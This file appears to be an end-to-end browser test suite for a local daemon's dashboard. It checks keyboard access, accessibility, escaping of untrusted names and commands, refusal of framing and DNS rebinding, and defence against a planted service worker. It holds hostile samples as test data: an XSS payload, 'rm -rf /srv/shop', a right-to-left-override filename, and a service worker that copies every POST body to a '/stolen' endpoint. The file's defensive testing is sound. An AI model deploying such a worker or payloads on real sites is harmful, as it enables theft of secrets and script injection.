// The page in a real browser, served by a real daemon: who gets in, what every view is for everybody's eyes and hands, and what cannot run in it.

import { createServer, type IncomingMessage, request, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import type { Browser, BrowserContext, Page, Route } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { PeerShape, ReportShape } from '../../../src/api/contract/shapes.ts'
import { HOSTILE } from '../../support/data/hostile-text.ts'
import { append, liveName, records } from '../../support/data/spool.ts'
import { startNode, type TestNode } from '../../support/node/node.ts'
import { CHROMIUM, openChromium } from '../../support/run/browser.ts'
import { faultsOf, prepare, WELL_WALKED, walkedByTab } from '../../support/run/page-checks.ts'
import { loadPage } from '../../support/run/page-load.ts'
import { atEnd } from '../../support/run/processes.ts'
import { PATIENCE_MS, until } from '../../support/run/until.ts'
import type { SessionCodeShape } from '../../support/shapes.ts'

const VIEWS = ['me', 'sharing', 'mesh', 'team', 'ask', 'posture', 'audit', 'system'] as const
const MARKUP = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>'
/** A name of somebody else, which the browser resolves to this machine. */
const REBOUND = 'rebound.example'
const COMMANDS = [
  'git status',
  `echo ${MARKUP}`,
  'rm -rf /srv/shop',
  `echo safe\u202etxt.exe`,
  `echo ${'A'.repeat(20_000)}`,
]
/** Of the commands that are shown, in pixels. */
const HIGHEST = "Math.max(...[...document.querySelectorAll('td.long code')].map((one) => one.clientHeight))"
const IS_HACKED = "'hacked' in window"
const WRITE_MARKUP = `(() => { try { document.body.innerHTML = '<b>x</b>'; return 'taken' } catch (error) { return String(error) } })()`

/** What the other program left: it controls each page at once, and hands on what the page sends. */
const WORKER = `addEventListener('install', (event) => event.waitUntil(skipWaiting()))
addEventListener('activate', (event) => event.waitUntil(clients.claim()))
addEventListener('fetch', (event) => event.respondWith(handOn(event.request)))
async function handOn(request) {
  if (request.method === 'POST') await fetch('/stolen', { method: 'POST', body: await request.clone().text() })
  return fetch(request)
}`
const PLANTED = `<script>navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready)
  .then(() => (document.title = 'planted'))</script>`

/** For an hour: npm run soak -- page, which also tells how long the page was busy at once. */
const LOAD_SECONDS = 3

let node: TestNode
let browser: Browser
let context: BrowserContext
let page: Page
let origin: string

const dashboard = async () => (await node.karo(['dashboard', '--no-open'])).stdout.trim()
async function go(view: string): Promise<void> {
  await page.goto(`${origin}/#/${view}`)
  await page.locator(`nav a[aria-current=page][href="#/${view}"]`).waitFor({ state: 'attached' })
  // Its title takes the focus behind the first frame, and not from a Tab that came before.
  await page.evaluate('new Promise((done) => requestAnimationFrame(() => setTimeout(done)))')
  await page.locator('.bone').first().waitFor({ state: 'detached' })
}

describe.skipIf(CHROMIUM === undefined)(
  `the page ${CHROMIUM === undefined ? '(there is no chromium here)' : ''}`,
  () => {
    beforeAll(async () => {
      node = await startNode()
      const start = (Date.now() - 60_000) * 1_000
      append(join(node.home, 'spool'), liveName(), records(COMMANDS, 1, { start }))
      await until(async () => (await node.status()).store.events === COMMANDS.length, {
        what: 'commands are recorded',
      })
      origin = (await node.json<SessionCodeShape>(['dashboard'])).page ?? ''
      browser = await openChromium([`--host-resolver-rules=MAP ${REBOUND} 127.0.0.1`])
      context = await browser.newContext({ viewport: { width: 1280, height: 900 } })
      await prepare(context)
      page = await context.newPage()
    })
    afterAll(async () => browser?.close())

    test('a stranger sees how it is opened, and nothing else', async () => {
      await page.goto(`${origin}/`)
      expect(await page.locator('main').textContent()).toContain('karo dashboard')
      expect(await page.locator('nav').count()).toBe(0)
    })

    test('its address opens one tab: the code leaves the address bar, and opens nothing again', async () => {
      const address = await dashboard()
      expect(address).toMatch(/^http:\/\/localhost:\d+\/#code=[\w-]{43}$/)
      await page.goto(address)
      await page.locator('nav').waitFor()
      expect(page.url()).not.toContain('code')
      const other = await context.newPage()
      await other.goto(address)
      await other.getByText('run this in a terminal').waitFor()
      await other.close()
      await page.goto(address)
      await page.getByRole('heading', { name: 'Me', exact: true }).waitFor()
      await page.reload()
      await page.locator('nav').waitFor()
      // A page that is there already is loaded anew: the next code may be of another person.
      const loaded = page.waitForEvent('load')
      await page.goto(await dashboard())
      await loaded
      await page.locator('nav').waitFor()
    })

    test('everything is reached with keys', async () => {
      await go('me')
      // Both keys have to come within a second and a half.
      await until(
        async () => {
          await page.keyboard.press('g')
          await page.keyboard.press('n')
          return page.url().endsWith('#/mesh')
        },
        { what: 'two keys open the mesh' },
      )
      await page.getByRole('heading', { name: 'Mesh' }).waitFor()
      await page.keyboard.press('?')
      await page.getByRole('dialog', { name: 'Keys' }).waitFor()
      await page.keyboard.press('Escape')
      await page.keyboard.press('Control+k')
      await page.locator('dialog[open] input:focus').waitFor()
      await page.keyboard.type('audit')
      await page.keyboard.press('Enter')
      await page.getByRole('heading', { name: 'Audit', exact: true }).waitFor()
      // The heading of a new view takes the focus soon after it is there.
      const focusesPanel = async (): Promise<boolean> => {
        await page.keyboard.press('j')
        return (await page.locator('.panel:focus').count()) > 0
      }
      await until(focusesPanel, { what: 'a panel has the focus' })
      const search = page.getByPlaceholder('Search the last entries')
      await search.fill('node').then(() => search.press('Enter'))
      await page.waitForURL(/#\/audit\?node$/)
      // The palette goes to what the view has, and presses nothing.
      await page.keyboard.press('Control+k')
      await page.locator('dialog[open] input:focus').waitFor()
      await page.keyboard.type('verify now')
      await page.keyboard.press('Enter')
      await page.locator('button:focus', { hasText: 'Verify now' }).waitFor()
      await page.getByText('Not verified since').waitFor()
      await page.reload()
      await page.locator('nav').waitFor()
      await page.keyboard.press('Tab')
      await page.keyboard.press('Enter')
      expect(await page.evaluate('document.activeElement.id')).toBe('content')
      await page.keyboard.press('Tab')
      await page.keyboard.press('Enter')
      await page.getByText('whole: nothing was altered').waitFor()
      // What was pressed keeps the focus.
      await page.locator('button:focus', { hasText: 'Verify now' }).waitFor()
    })

    test('the words of an address are searched for, however few machines there are, and when they change', async () => {
      const isSought = (words: string) =>
        page.waitForFunction(`document.querySelector('input[type=search]')?.value === '${words}'`)
      for (const words of ['first', 'second']) {
        for (const view of ['mesh', 'audit', 'mesh']) {
          await page.evaluate(`location.hash = '#/${view}?${words}'`)
          await isSought(words)
        }
      }
      await page.evaluate(`location.hash = '#/mesh'`)
      await isSought('')
    })

    test('in every view Tab meets whatever can be pressed, leaves it again, and shows where it is', async () => {
      for (const view of VIEWS) {
        await go(view)
        expect.soft(await walkedByTab(page), view).toEqual(WELL_WALKED)
      }
      await go('me')
      const CHOSEN = `[...document.querySelectorAll('input[type=radio]')].findIndex((one) => one.checked)`
      const before = await page.evaluate(CHOSEN)
      await page.locator('input[type=radio]:checked').first().press('ArrowRight')
      expect(await page.evaluate(CHOSEN)).not.toBe(before)
    })

    test('no view has a serious fault for people who do not see or use a mouse, light or dark, at any width, and none is wider than its window', async () => {
      for (const view of VIEWS) {
        await go(view)
        expect.soft(await faultsOf(page), view).toEqual([])
      }
    })

    test('commands and names of others are text: no markup, no direction, no hidden character', async () => {
      await go('me')
      await page.getByText(MARKUP).first().waitFor()
      expect(await page.getByText('safe\\u{202e}txt.exe').count()).toBeGreaterThan(0)
      expect(await page.evaluate(HIGHEST)).toBeLessThan(400)
      await page.route('**/api/v1/peers', async (route) => {
        const response = await route.fetch()
        const peers = [...HOSTILE, MARKUP].map((name, i) => poisoned(name, i))
        await route.fulfill({ response, json: { peers } })
      })
      await go('sharing')
      await go('mesh')
      await page.getByText(MARKUP).first().waitFor()
      const shown = (await page.locator('main').textContent()) ?? ''
      expect(shown).not.toMatch(/[\u0000-\u0008\u001b\u200b-\u200f\u202a-\u202e\u2066-\u2069]/)
      expect(await page.locator('main img, main script').count()).toBe(0)
      expect(await page.evaluate(IS_HACKED)).toBe(false)
      await page.unroute('**/api/v1/peers')
    })

    test('the map draws a link between others once, whoever told it, and none with a machine that is not shown', async () => {
      const at = (i: number, ...others: number[]): PeerShape => {
        const links = others.map((other) => poisoned('', other).fingerprint)
        return { ...poisoned(`m-${i}`, i), state: 'connected', presence: 'online', links }
      }
      const peers = [at(1, 2, 9), at(2, 1), at(3, 2)]
      await page.route('**/api/v1/peers', (route) => route.fulfill({ json: { peers } }))
      await go('system')
      await go('mesh')
      await page.locator('main .map line.edge').first().waitFor({ state: 'attached' })
      expect((await page.locator('main .map path.told').getAttribute('d'))?.match(/M/g)).toHaveLength(2)
      await page.unroute('**/api/v1/peers')
    })

    test('a double click or a key that is held confirms nothing; a second press does', async () => {
      let revoked = 0
      await page.route('**/api/v1/peers', (route) => route.fulfill({ json: { peers: [poisoned('mia', 1)] } }))
      await page.route('**/api/v1/**/revoke', (route) => {
        revoked += 1
        return route.abort()
      })
      await go('system')
      await go('mesh')
      await page.getByRole('button', { name: /Details/ }).click()
      const button = page.getByRole('button', { name: /Take back trust|press again/ })
      const began = performance.now()
      await button.dblclick()
      await page.getByText('press again').waitFor()
      await page.keyboard.down('Enter')
      await page.keyboard.down('Enter')
      await page.keyboard.up('Enter')
      // After that time the first Enter is a second press, as a person means it, and the one that is held is none.
      expect(revoked).toBeLessThan(performance.now() - began < 600 ? 1 : 2)
      await until(
        async () => {
          if (revoked === 0) await button.click()
          return revoked > 0
        },
        { what: 'a later press does it' },
      )
      await page.keyboard.press('Escape')
      await page.unrouteAll()
    })

    test('a report whose rows have long names and no numbers is not wider than its window', async () => {
      const acts = ['blocked', 'confirmed_risky', 'declined', 'karo_generated'] as const
      const rows = acts.map((act) => ({ act, value: null, machines: null, at_least: false, change: null }))
      const counted = {
        query_type: 'PrivilegedUse',
        title: 'What runs by sudo',
        names: 'category',
        counts: 'commands',
      }
      await page.route('**/api/v1/reports', async (route) => {
        const report: ReportShape = await (await route.fetch()).json()
        const risk = { ...report.risk, state: 'shown' as const, acts: rows }
        const none = { ...counted, state: 'shown', periods: 1, of: 1, machines: null, notes: [], rows: [] }
        await route.fulfill({ json: { ...report, risk, counted: [none] } })
      })
      await go('system')
      await go('posture')
      await page.getByText('run by AI tools and programs').waitFor()
      // A table without rows says nothing of why it has none.
      await page.getByText('None, or on too few machines to be told.').waitFor()
      expect(await faultsOf(page)).toEqual([])
      await page.unrouteAll({ behavior: 'ignoreErrors' })
    })

    test('whoever tries a failed report again with the keyboard stays where it was', async () => {
      await page.route('**/api/v1/reports', (route) => route.abort())
      await go('system')
      await go('posture')
      const again = page.getByRole('button', { name: 'Try again' })
      await again.waitFor()
      await page.unrouteAll({ behavior: 'ignoreErrors' })
      await again.press('Enter')
      await again.waitFor({ state: 'detached' })
      expect(await page.locator('.panel:focus h2').allTextContents()).toEqual(['At a glance'])
    })

    test('views that this node does not have are in no menu, also before it has said which these are', async () => {
      let answer = (): void => {}
      const asked = new Promise<void>((seen) => {
        void page.route('**/api/v1/status', async (route) => {
          const held = new Promise<void>((resolve) => (answer = resolve))
          seen()
          await held
          const response = await route.fetch()
          const status = await response.json()
          await route.fulfill({ json: { ...status, mesh: { ...status.mesh, alone: true } } })
        })
      })
      await page.reload()
      await asked
      await page.getByText('Opening …').waitFor()
      expect(await page.locator('nav').count()).toBe(0)
      answer()
      await page.locator('nav').waitFor()
      expect(await page.locator('nav a').getByText('Mesh', { exact: true }).count()).toBe(0)
      await page.unrouteAll({ behavior: 'ignoreErrors' })
      // Where it cannot say so, all of them are there.
      await page.route('**/api/v1/status', (route) => route.abort())
      await page.reload()
      await page.locator('nav a').getByText('Mesh', { exact: true }).waitFor()
      await page.unrouteAll()
      await page.reload()
      await page.locator('nav').waitFor()
    })

    test('a machine that waits shows words to compare, also as a QR code, and is trusted by a second press; one whose certificate has ended says so', async () => {
      let trusted = 0
      const peers = [
        poisoned('mia', 2),
        { ...poisoned('ida', 4), certificate_ended: true },
        { ...poisoned('eva', 5), certificate_ended: true },
      ]
      await page.route('**/api/v1/peers', (route) => route.fulfill({ json: { peers } }))
      await page.route('**/api/v1/peers/trust', (route) => {
        trusted += 1
        return route.abort()
      })
      await go('system')
      await go('mesh')
      const both = page
        .getByRole('region', { name: '2 machines waiting for a decision' })
        .getByRole('listitem')
      const waiting = both.filter({ hasText: 'mia' })
      const ended = both.filter({ hasText: 'Its certificate has ended. To bring it back: karo invite' })
      expect(await ended.allTextContents()).toEqual([expect.stringMatching(/^ida/)])
      expect(await page.getByRole('row', { name: 'eva' }).getByRole('cell', { name: 'ended' }).count()).toBe(
        1,
      )
      await waiting.getByText('Its words as a QR code').click()
      await waiting.locator('svg.qr path[d^="M"]').waitFor({ state: 'attached' })
      const says = await waiting.locator('svg.qr').getAttribute('aria-label')
      expect(await waiting.locator('.words').textContent()).toContain(
        says?.replace('QR code of the words ', ''),
      )
      const button = waiting.getByRole('button', { name: /words are equal|press again/ })
      await button.dblclick()
      expect(trusted).toBe(0)
      await until(
        async () => {
          if (trusted === 0) await button.click()
          return trusted > 0
        },
        { what: 'a second press trusts it' },
      )
      await page.unrouteAll()
    })

    test('a question that was saved is asked again after the page was loaded anew', async () => {
      await go('ask')
      await page.getByRole('combobox', { name: 'About' }).selectOption('NodeHealth')
      await page.getByRole('button', { name: 'Save', exact: true }).click()
      await page.reload()
      await page.getByRole('button', { name: /^How the machines are, 7 days/ }).click()
      await page.getByRole('heading', { name: 'Answer' }).waitFor()
      await page.getByRole('button', { name: 'Forget' }).click()
    })

    test('what doctor found is shown with its fix, which is copied', async () => {
      const fix = 'karo doctor --fix'
      const check = { id: 'spool', title: 'the spool', outcome: 'fail', detail: 'is gone', fix }
      await page.route('**/api/v1/doctor/findings', (route) =>
        route.fulfill({ json: { at: new Date().toISOString(), checks: [check] } }),
      )
      await context.grantPermissions(['clipboard-read', 'clipboard-write'])
      await go('system')
      await page.reload()
      await page
        .locator('.findings')
        .getByRole('button', { name: `Copy ${fix}` })
        .click()
      await until(async () => (await page.evaluate('navigator.clipboard.readText()')) === fix, {
        what: 'the fix is in the clipboard',
      })
      await page.unrouteAll()
    })

    test('an answer that takes longer than it takes to ask again arrives, and it is asked for again then', async () => {
      await go('system')
      const held: Route[] = []
      let others = 0
      await page.route('**/api/v1/stats?*', (route) => void held.push(route))
      await page.route('**/api/v1/anomalies', (route) => {
        others += 1
        return route.continue()
      })
      await page.locator('nav').getByRole('link', { name: 'Me', exact: true }).click()
      await until(() => held.length === 1 && others > 0, { what: 'everything was asked for' })
      const before = others
      await page.keyboard.press('r')
      await until(() => others > before, { what: 'everything was asked for again' })
      expect(held).toHaveLength(1)
      await held[0]?.continue()
      await page.getByText('Average time').waitFor()
      await until(() => held.length === 2, { what: 'what was held is asked for again' })
      await held[1]?.continue()
      await page.unrouteAll()
    })

    test('a view that is opened has the focus on its heading', async () => {
      await go('me')
      await page.locator('nav').getByRole('link', { name: 'System' }).click()
      await until(async () => (await page.evaluate('document.activeElement.textContent')) === 'System', {
        what: 'the heading has the focus',
      })
      await page.getByText(`uid ${process.getuid?.()}, an administrator`).waitFor()
    })

    test('what somebody else put into the page does not run', async () => {
      const other = await context.newPage()
      await other.route(`${origin}/`, async (route) => {
        const response = await route.fetch()
        const body = (await response.text()).replace(
          '</body>',
          `${MARKUP}<p onclick="window.hacked=1">x</p></body>`,
        )
        await route.fulfill({ response, body })
      })
      await other.goto(`${origin}/`)
      await other.getByText('karo dashboard').waitFor()
      await other.getByText('x', { exact: true }).click()
      expect(await other.evaluate(IS_HACKED)).toBe(false)
      expect(await other.evaluate(WRITE_MARKUP)).toContain('TrustedHTML')
      await other.close()
    })

    test('no other page can frame it or read it, and a name that was bound to this machine is refused', async () => {
      const port = new URL(origin).port
      const other = await browser.newPage()
      other.setDefaultTimeout(PATIENCE_MS)
      await other.route('http://evil.example/**', (route) =>
        route.fulfill({ contentType: 'text/html', body: `<iframe src="${origin}/"></iframe>` }),
      )
      await other.goto('http://evil.example/')
      const read = await other.evaluate(
        `fetch('${origin}/api/v1/health').then(() => 'read', () => 'refused')`,
      )
      expect(read).toBe('refused')
      expect(
        await Promise.all(
          other
            .frames()
            .slice(1)
            .map(async (frame) => (await frame.content()).includes('id="page"')),
        ),
      ).toEqual([false])
      await other.close()
      const rebound = await browser.newPage()
      rebound.setDefaultTimeout(PATIENCE_MS)
      const answer = await rebound.goto(`http://${REBOUND}:${port}/`)
      expect(answer?.status()).toBe(403)
      const health = await rebound.goto(`http://${REBOUND}:${port}/api/v1/health`)
      expect(health?.status()).toBe(403)
      await rebound.close()
    })

    describe('a service worker of another program, which the page ends before it sends anything that it could read', () => {
      let tabs: BrowserContext
      let mixed = ''
      const stolen: string[] = []
      let posted = 0

      /** The other program and the daemon one after the other at one port are one server here, which asks the daemon for the rest. */
      function both(incoming: IncomingMessage, response: ServerResponse): void {
        const { url = '/', method, headers } = incoming
        if (url === '/plant') response.setHeader('content-type', 'text/html').end(PLANTED)
        else if (url === '/worker.js') response.setHeader('content-type', 'text/javascript').end(WORKER)
        else if (url === '/stolen') {
          incoming.setEncoding('utf8').on('data', (text: string) => stolen.push(text))
          incoming.on('end', () => response.end())
        } else {
          if (method === 'POST' && url.endsWith('/sessions')) posted += 1
          const { host } = new URL(origin)
          const own = { ...headers, host, ...(headers.origin === undefined ? {} : { origin }) }
          const { referer: _, ...told } = own
          const asked = request(`${origin}${url}`, { method, headers: told }, (answer) => {
            response.writeHead(answer.statusCode ?? 500, answer.headers)
            answer.pipe(response)
          })
          asked.on('error', () => response.destroy())
          incoming.pipe(asked)
        }
      }
      const hash = async (): Promise<string> => new URL(await dashboard()).hash
      async function plant(): Promise<void> {
        const other = await tabs.newPage()
        await other.goto(`${mixed}/plant`)
        await until(async () => (await other.title()) === 'planted', {
          what: 'the worker controls its pages',
        })
        await other.close()
      }
      const opened = (page: Page): Promise<void> => page.locator('nav').waitFor()

      beforeAll(async () => {
        const server = createServer(both).listen(0, '127.0.0.1')
        atEnd(() => server.closeAllConnections())
        atEnd(() => void server.close())
        await new Promise((resolve) => server.once('listening', resolve))
        mixed = `http://localhost:${(server.address() as AddressInfo).port}`
        tabs = await browser.newContext()
        tabs.setDefaultTimeout(PATIENCE_MS)
      })
      afterAll(async () => tabs?.close())

      test('the worker reads what a page sends, where nobody ends it', async () => {
        await plant()
        const page = await tabs.newPage()
        await page.goto(`${mixed}/plant`)
        await page.evaluate(`fetch('/api/v1/nothing', { method: 'POST', body: 'a secret' })`)
        expect(stolen).toEqual(['a secret'])
        stolen.length = 0
        await page.close()
      })

      test('a page that is opened with a code ends it, and is loaded anew before the code is sent', async () => {
        await plant()
        const page = await tabs.newPage()
        await page.goto(`${mixed}/${await hash()}`)
        await opened(page)
        expect(stolen).toEqual([])
        await page.close()
      })

      test('so does a page that is there already and is given a code in its address', async () => {
        const page = await tabs.newPage()
        await page.goto(`${mixed}/`)
        await page.getByText('run this in a terminal').waitFor()
        await plant()
        const isControlled = async () => (await page.evaluate('navigator.serviceWorker.controller')) !== null
        await until(isControlled, { what: 'the worker controls the page' })
        await page.evaluate(`location.hash = ${JSON.stringify(await hash())}`)
        await opened(page)
        expect(stolen).toEqual([])
        await page.close()
      })

      test('where it cannot be ended the code is not sent, and the page says why', async () => {
        await plant()
        const page = await tabs.newPage()
        await page.addInitScript(
          `ServiceWorkerRegistration.prototype.unregister = () => Promise.reject(new Error('no'))`,
        )
        const before = posted
        await page.goto(`${mixed}/${await hash()}`)
        await page.getByText('left a service worker in the browser').waitFor()
        expect([posted, stolen]).toEqual([before, []])
        await page.close()
      })
    })

    test('under load it grows neither in memory nor in elements while it is used', async () => {
      const { events } = (await node.status()).store
      const load = await loadPage({ browser, node, seconds: LOAD_SECONDS, rate: 50, traced: false })
      expect(load.rounds).toBeGreaterThan(1)
      expect(load.elementsEnd).toBeLessThan(1.5 * load.elementsWarm)
      // What is compiled and kept once still comes in the first seconds; a leak of each round would be more.
      expect(load.heapEnd).toBeLessThan(2 * load.heapWarm)
      await until(async () => (await node.status()).store.events >= events + load.commands, {
        what: 'all commands are recorded',
      })
    })

    test('a session that is ended closes the page; a lost daemon is said at once, and locks what changes something', async () => {
      await go('sharing')
      await node.karo(['token', 'end'])
      await page.getByText('run this in a terminal').waitFor()
      await page.goto(await dashboard())
      // The code stands in the address until the page has it: another address before that would take it away.
      await page.locator('nav').waitFor()
      await go('sharing')
      const button = page.getByRole('button', { name: /Share/ })
      await button.waitFor()
      expect(await button.isEnabled()).toBe(true)
      await node.kill9()
      await page.getByText('Daemon lost').waitFor()
      expect(await button.isDisabled()).toBe(true)
      expect(await page.locator('.bar.bad').textContent()).toContain('actions are locked')
    })
  },
)

function poisoned(name: string, i: number): PeerShape {
  return {
    node_id: `karo:ed25519:${'A'.repeat(41)}${String(i).padStart(2, '0')}` as PeerShape['node_id'],
    name,
    fingerprint: i.toString(16).padStart(16, '0'),
    trust_level: 'untrusted',
    roles: [name],
    teams: [name],
    why: 'default',
    addresses: [name],
    state: i % 2 === 0 ? 'pending' : 'known',
    last_seen: null,
    known_by: null,
    presence: null,
  }
}
